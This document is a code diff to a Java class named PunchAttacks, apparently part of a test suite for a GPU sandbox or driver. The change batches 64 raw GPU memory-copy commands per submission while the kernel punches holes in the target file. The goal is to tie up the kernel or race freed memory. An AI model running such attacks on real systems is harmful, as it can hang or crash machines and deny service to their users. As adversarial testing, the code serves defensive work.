@@ -5,6 +5,7 @@ import io.sluice.abi.sys.Kernel;
 import io.sluice.abi.sys.Mapping;
 import java.lang.foreign.MemorySegment;
 import java.lang.foreign.ValueLayout;
+import java.util.Arrays;
 
 /** Attacks by memory that is taken away while the GPU is at it, which takes the kernel long. */
 final class PunchAttacks {
@@ -15,10 +16,12 @@ final class PunchAttacks {
   private static final int M2MF = 2;
   private static final int PITCHED = 1 << 4 | 1 << 8;
   private static final int WORD = 4;
+  private static final int PAGES = 64;
+  private static final int COPIES = 64;
 
   private PunchAttacks() {}
 
-  /** Copies to every page of a file, all of whose pages are taken out of it meanwhile. */
+  /** Copies to pages of a file, all of whose pages are taken out of it meanwhile. */
   static void punched(Means means) {
     Kernel kernel = means.kernel();
     try (RawGuest guest = RawGuest.attach(kernel, means.socket());
@@ -37,21 +40,26 @@ final class PunchAttacks {
       long target = guest.map(space, buffer);
       RawChannel channel = new RawChannel(guest, space);
       channel.submit(RawChannel.method(M2MF, 0, 0x9039));
+      int[] copies = copies(channel.address, target);
       do {
         touch(own.segment());
-        channel.submit(RawChannel.method(M2MF, 0x238, (int) (target >>> 32), (int) target));
-        channel.submit(oneWordToEachPage(channel.address));
-        channel.submit(RawChannel.method(M2MF, 0x300, PITCHED));
+        channel.submit(copies);
         kernel.punchHole(file, 0, FILE_BYTES);
       } while (!means.over().getAsBoolean());
     }
   }
 
-  /** Source, its pitch, that of the target, the length of a line, the lines. */
-  private static int[] oneWordToEachPage(long from) {
-    int pages = (int) (FILE_BYTES / PAGE);
-    return RawChannel.method(
-        M2MF, 0x30c, (int) (from >>> 32), (int) from, 0, (int) PAGE, WORD, pages);
+  /** Copies of a word to the first pages, again and again: short work, but for what is done to it. */
+  private static int[] copies(long from, long to) {
+    int[] one =
+        Launches.all(
+            RawChannel.method(M2MF, 0x238, (int) (to >>> 32), (int) to),
+            RawChannel.method(
+                M2MF, 0x30c, (int) (from >>> 32), (int) from, 0, (int) PAGE, WORD, PAGES),
+            RawChannel.method(M2MF, 0x300, PITCHED));
+    int[][] all = new int[COPIES][];
+    Arrays.fill(all, one);
+    return Launches.all(all);
   }
 
   private static void touch(MemorySegment pages) {
